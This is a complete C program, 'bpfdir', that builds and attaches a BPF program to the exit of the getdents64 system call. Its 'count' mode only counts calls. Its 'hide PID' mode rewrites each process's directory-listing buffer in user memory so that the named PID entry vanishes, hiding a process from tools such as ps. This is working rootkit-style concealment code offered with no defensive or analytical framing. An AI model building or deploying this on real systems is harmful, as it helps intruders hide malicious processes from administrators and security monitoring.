/* bpfdir hide PID | count: a BPF program at the end of getdents64() of every process, until the
 * end of this one. `hide` edits what the call left in its caller's memory, to leave out the entry
 * named PID (its predecessor's length is made to span it). `count` counts the calls. */
#include <asm/ptrace.h>
#include <errno.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>

#include <sys/syscall.h>
#include <unistd.h>

#define TRACEPOINT "/sys/kernel/tracing/events/syscalls/sys_exit_getdents64/id"
#define LONGEST	   256
#define ENTRIES	   300 /* of a listing; the verifier wants a bound */
#define NAME	   19  /* offset in struct linux_dirent64, as that of its length below */
#define RECLEN	   16
#define RESULT	   16 /* in the tracepoint's record: common part 8, number 8, result 8 */

static struct bpf_insn code[LONGEST];
static unsigned count;

static void put(uint8_t op, unsigned dst, unsigned src, int off, int imm)
{
	code[count++] = (struct bpf_insn){.code = op,
					  .dst_reg = (uint8_t)(dst & 15),
					  .src_reg = (uint8_t)(src & 15),
					  .off = (int16_t)off,
					  .imm = imm};
}

/* The instructions, as bpf's own assembler has them. Jumps take the number of the instruction to go
 * to; it may be given later. */
#define MOV(dst, src)		     put(BPF_ALU64 | BPF_MOV | BPF_X, dst, src, 0, 0)
#define MOV_K(dst, imm)		     put(BPF_ALU64 | BPF_MOV | BPF_K, dst, 0, 0, imm)
#define ADD(dst, src)		     put(BPF_ALU64 | BPF_ADD | BPF_X, dst, src, 0, 0)
#define ADD_K(dst, imm)		     put(BPF_ALU64 | BPF_ADD | BPF_K, dst, 0, 0, imm)
#define LOAD(size, dst, src, off)    put(BPF_LDX | BPF_MEM | (size), dst, src, off, 0)
#define STORE(size, dst, off, src)   put(BPF_STX | BPF_MEM | (size), dst, src, off, 0)
#define STORE_K(size, dst, off, imm) put(BPF_ST | BPF_MEM | (size), dst, 0, off, imm)
#define CALL(function)		     put(BPF_JMP | BPF_CALL, 0, 0, 0, function)
#define EXIT()			     put(BPF_JMP | BPF_EXIT, 0, 0, 0, 0)
#define JUMP(op, dst, src, to)	     put(BPF_JMP | (op) | BPF_X, dst, src, (int)(to) - (int)count - 1, 0)
#define JUMP_K(op, dst, imm, to)                                                                   \
	put(BPF_JMP | (op) | BPF_K, dst, 0, (int)(to) - (int)count - 1, imm)

static void land(unsigned jump)
{
	code[jump].off = (int16_t)(count - jump - 1);
}

/* On the stack. */
#define TRIPS	 (-8)
#define PREV_LEN (-16)
#define ENTRY	 (-48) /* 32 bytes: head and name */
#define NEW_LEN	 (-56)

/* r6: the result, r7: the buffer, r8: the entry's offset, r9: its predecessor's, -1: none */
static void build_hide(const char *name)
{
	unsigned out[8], outs = 0, next[16], nexts = 0, loop;
	size_t len = strlen(name) + 1; /* with its end */

	LOAD(BPF_DW, 6, 1, RESULT);
	CALL(BPF_FUNC_get_current_task_btf);
	MOV(1, 0);
	CALL(BPF_FUNC_task_pt_regs);
	LOAD(BPF_DW, 7, 0, offsetof(struct pt_regs, rsi));
	MOV_K(8, 0);
	MOV_K(9, -1);
	STORE_K(BPF_DW, 10, TRIPS, 0);
	STORE_K(BPF_DW, 10, PREV_LEN, 0);
	loop = count;
	LOAD(BPF_DW, 1, 10, TRIPS);
	out[outs++] = count;
	JUMP_K(BPF_JGE, 1, ENTRIES, 0);
	ADD_K(1, 1);
	STORE(BPF_DW, 10, TRIPS, 1);
	out[outs++] = count;
	JUMP(BPF_JSGE, 8, 6, 0);
	MOV(1, 10);
	ADD_K(1, ENTRY);
	MOV_K(2, 32);
	MOV(3, 7);
	ADD(3, 8);
	CALL(BPF_FUNC_probe_read_user);
	out[outs++] = count;
	JUMP_K(BPF_JNE, 0, 0, 0);
	LOAD(BPF_H, 1, 10, ENTRY + RECLEN);
	for (size_t i = 0; i < len; i++) {
		LOAD(BPF_B, 2, 10, ENTRY + NAME + (int)i);
		next[nexts++] = count;
		JUMP_K(BPF_JNE, 2, name[i], 0);
	}
	out[outs++] = count;
	JUMP_K(BPF_JEQ, 9, -1, 0);
	LOAD(BPF_DW, 2, 10, PREV_LEN);
	ADD(2, 1);
	STORE(BPF_DW, 10, NEW_LEN, 2);
	MOV(1, 7);
	ADD(1, 9);
	ADD_K(1, RECLEN);
	MOV(2, 10);
	ADD_K(2, NEW_LEN);
	MOV_K(3, 2);
	CALL(BPF_FUNC_probe_write_user);
	out[outs++] = count;
	JUMP_K(BPF_JA, 0, 0, 0);
	while (nexts)
		land(next[--nexts]);
	MOV(9, 8);
	STORE(BPF_DW, 10, PREV_LEN, 1);
	ADD(8, 1);
	JUMP_K(BPF_JA, 0, 0, loop);
	while (outs)
		land(out[--outs]);
	MOV_K(0, 0);
	EXIT();
}

static int bpf(int command, union bpf_attr *attr)
{
	return (int)syscall(SYS_bpf, command, attr, sizeof(*attr));
}

static int build_count(void)
{
	union bpf_attr attr = {
		.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 8, .max_entries = 1};
	int map = bpf(BPF_MAP_CREATE, &attr);
	unsigned jump;

	STORE_K(BPF_W, 10, -4, 0);
	MOV(2, 10);
	ADD_K(2, -4);
	put(BPF_LD | BPF_IMM | BPF_DW, 1, BPF_PSEUDO_MAP_FD, 0, map);
	put(0, 0, 0, 0, 0);
	CALL(BPF_FUNC_map_lookup_elem);
	jump = count;
	JUMP_K(BPF_JEQ, 0, 0, 0);
	MOV_K(1, 1);
	put(BPF_STX | BPF_ATOMIC | BPF_DW, 0, 1, 0, BPF_ADD);
	land(jump);
	MOV_K(0, 0);
	EXIT();
	return map;
}

static int load(const char *name)
{
	static char log[65536];
	union bpf_attr attr = {.prog_type = BPF_PROG_TYPE_TRACEPOINT,
			       .insn_cnt = count,
			       .insns = (uintptr_t)code,
			       .license = (uintptr_t) "GPL"};
	int fd;

	strcpy(attr.prog_name, name);
	fd = bpf(BPF_PROG_LOAD, &attr);
	if (fd >= 0)
		return fd;
	fprintf(stderr, "bpfdir: load: %s\n", strerror(errno));
	attr.log_level = 1;
	attr.log_size = sizeof(log);
	attr.log_buf = (uintptr_t)log;
	bpf(BPF_PROG_LOAD, &attr);
	fprintf(stderr, "%.2000s\n", log);
	return -1;
}

static int attach(int program)
{
	struct perf_event_attr attr = {
		.type = PERF_TYPE_TRACEPOINT, .size = sizeof(attr), .sample_period = 1};
	FILE *file = fopen(TRACEPOINT, "r");
	unsigned id;
	int fd;

	if (!file || fscanf(file, "%u", &id) != 1)
		return -1;
	fclose(file);
	attr.config = id;
	fd = (int)syscall(SYS_perf_event_open, &attr, -1, 0, -1, PERF_FLAG_FD_CLOEXEC);
	if (fd < 0 || ioctl(fd, PERF_EVENT_IOC_SET_BPF, program))
		return -1;
	return ioctl(fd, PERF_EVENT_IOC_ENABLE, 0);
}

static void tell_count(int map)
{
	uint64_t calls = 0;
	uint32_t key = 0;
	union bpf_attr attr = {
		.map_fd = (uint32_t)map, .key = (uintptr_t)&key, .value = (uintptr_t)&calls};

	if (bpf(BPF_MAP_LOOKUP_ELEM, &attr) == 0)
		printf("bpfdir: %llu calls\n", (unsigned long long)calls);
	fflush(stdout);
}

int main(int argc, char **argv)
{
	bool hiding = argc == 3 && !strcmp(argv[1], "hide");
	int map = -1, program;

	if (!hiding && (argc != 2 || strcmp(argv[1], "count"))) {
		fputs("usage: bpfdir hide PID | count\n", stderr);
		return 64;
	}
	if (hiding)
		build_hide(argv[2]);
	else
		map = build_count();
	program = load(hiding ? "hider" : "counter");
	if (program < 0)
		return 1;
	if (attach(program)) {
		fprintf(stderr, "bpfdir: attach: %s\n", strerror(errno));
		return 1;
	}
	printf("bpfdir: pid %d attached\n", getpid());
	fflush(stdout);
	for (;;) {
		sleep(3);
		if (map >= 0)
			tell_count(map);
	}
}
